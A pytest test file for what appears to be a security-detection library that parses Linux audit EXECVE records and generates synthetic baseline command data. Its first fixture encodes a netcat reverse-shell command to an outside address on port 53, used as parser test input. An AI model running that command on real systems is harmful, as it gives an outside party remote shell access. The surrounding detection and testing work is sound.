from __future__ import annotations

from itertools import groupby

import pytest
from hypothesis import given, settings, strategies as st

from lotlsynth.corpus import (
    AuditParseError,
    BaselineGrammar,
    ExecveEvent,
    aggregate_window,
    format_execve_record,
    generate_synthetic_baseline,
    parse_execve_record,
    read_audit_log,
    read_command_lines,
)

from conftest import IPV4_RE

NETCAT = 'type=EXECVE msg=audit(1700000000.123:42): argc=6 a0="netcat" a1="-c" a2="sh" a3="-u" a4="1.2.3.4" a5="53"'


def test_parse_netcat_example():
    ev = parse_execve_record(NETCAT)
    assert ev.argc == 6
    assert ev.cmd == "netcat -c sh -u 1.2.3.4 53"
    assert ev.timestamp == pytest.approx(1700000000.123)


def test_parse_single_argument():
    assert parse_execve_record('type=EXECVE msg=audit(1.0:1): argc=1 a0="ls"').cmd == "ls"


def test_parse_missing_argument_names_field():
    with pytest.raises(AuditParseError, match="a1"):
        parse_execve_record('type=EXECVE msg=audit(1.0:1): argc=2 a0="echo"')


@pytest.mark.parametrize("line, field", [
    ('type=EXECVE msg=audit(1.0:1): a0="ls"', "argc"),
    ('type=SYSCALL msg=audit(1.0:1): argc=1 a0="ls"', "EXECVE"),
])
def test_parse_malformed(line, field):
    with pytest.raises(AuditParseError, match=field):
        parse_execve_record(line)


def test_parse_hex_and_chunked_arguments():
    line = 'type=EXECVE msg=audit(5.0:9): argc=3 a0="sh" a1="-c" a2=6563686F2022686922'
    assert parse_execve_record(line).args == ("sh", "-c", 'echo "hi"')
    chunked = 'type=EXECVE msg=audit(5.0:9): argc=2 a0="echo" a1[0]="ab" a1[1]="cd"'
    assert parse_execve_record(chunked).args == ("echo", "abcd")


def _ev(t, cmd, host="h1", ppid=100):
    args = tuple(cmd.split())
    return ExecveEvent(timestamp=t, host=host, parent_pid=ppid, argc=len(args), args=args)


def test_aggregate_examples():
    assert aggregate_window([_ev(0, "ls"), _ev(10, "id")], 300) == ["ls;id"]
    assert aggregate_window([_ev(0, "ls")], 300) == ["ls"]
    assert sorted(aggregate_window([_ev(0, "ls", host="a"), _ev(1, "id", host="b")], 300)) == ["id", "ls"]
    assert aggregate_window([], 300) == []


def test_aggregate_rejects_bad_window():
    with pytest.raises(ValueError):
        aggregate_window([_ev(0, "ls")], 0)


_events = st.lists(
    st.builds(
        _ev,
        st.integers(0, 2000).map(float),
        st.sampled_from(["ls", "id", "ps aux", "uname -a", "df -h"]),
        st.sampled_from(["a", "b"]),
        st.integers(1, 3),
    ),
    max_size=30,
)


@given(_events)
def test_aggregate_matches_bruteforce_grouping(events):
    window = 300.0
    out = aggregate_window(events, window)
    assert len(out) == len(set(out))
    keyed = sorted(enumerate(events), key=lambda ie: (ie[1].host, ie[1].parent_pid, ie[1].timestamp // window))
    expected = set()
    for _, grp in groupby(keyed, key=lambda ie: (ie[1].host, ie[1].parent_pid, ie[1].timestamp // window)):
        ordered = sorted(grp, key=lambda ie: (ie[1].timestamp, ie[0]))
        expected.add(";".join(dict.fromkeys(e.cmd for _, e in ordered)))
    assert set(out) == expected


_arg = st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF, blacklist_categories=("Cs",)), min_size=1, max_size=12)


@given(st.lists(_arg, min_size=1, max_size=6), st.integers(0, 10**6), st.floats(0, 2e9, allow_nan=False))
def test_format_parse_roundtrip(args, ppid, ts):
    ev = ExecveEvent(timestamp=round(ts, 3), host="web01", parent_pid=ppid, argc=len(args), args=tuple(args))
    line = format_execve_record(ev, serial=7)
    back = parse_execve_record(line)
    assert back.args == ev.args
    assert parse_execve_record(format_execve_record(back)).args == back.args


def test_read_audit_log(tmp_path):
    p = tmp_path / "audit.log"
    p.write_text("\n".join([
        'type=SYSCALL msg=audit(10.0:1): arch=c000003e syscall=59',
        'type=EXECVE msg=audit(10.0:1): argc=1 a0="ls" ppid=5',
        'type=EXECVE msg=audit(20.0:2): argc=1 a0="id" ppid=5',
    ]) + "\n")
    assert read_audit_log(p) == ["ls;id"]


def test_read_command_lines_dedupes(tmp_path):
    p = tmp_path / "cmds.txt"
    p.write_text("ls\n\nid\nls\n  ps  \n")
    assert read_command_lines(p) == ["ls", "id", "ps"]


def test_synthetic_baseline_deterministic():
    a = generate_synthetic_baseline(3, seed=42)
    b = generate_synthetic_baseline(3, seed=42)
    assert a == b and len({r.cmd for r in a}) == 3


def test_synthetic_baseline_has_ipv4():
    recs = generate_synthetic_baseline(1000, seed=7)
    assert any(IPV4_RE.search(r.cmd) for r in recs)


def test_synthetic_baseline_rejects_zero():
    with pytest.raises(ValueError):
        generate_synthetic_baseline(0, seed=1)


def test_synthetic_baseline_capacity_error():
    weights = {k: 0.0 for k in BaselineGrammar().shape_weights()}
    weights["sys_read"] = 1.0
    cap = BaselineGrammar(weights=weights).capacity()
    assert len(generate_synthetic_baseline(cap, seed=1, weights=weights)) == cap
    with pytest.raises(ValueError, match=f"at most {cap}"):
        generate_synthetic_baseline(cap + 1, seed=1, weights=weights)


@settings(max_examples=10, deadline=None)
@given(st.integers(1, 400), st.integers(0, 2**32 - 1))
def test_synthetic_baseline_invariants(n, seed):
    recs = generate_synthetic_baseline(n, seed=seed)
    assert len(recs) == n
    assert len({r.cmd for r in recs}) == n
    assert all(r.label == 0 and r.origin == "baseline" for r in recs)
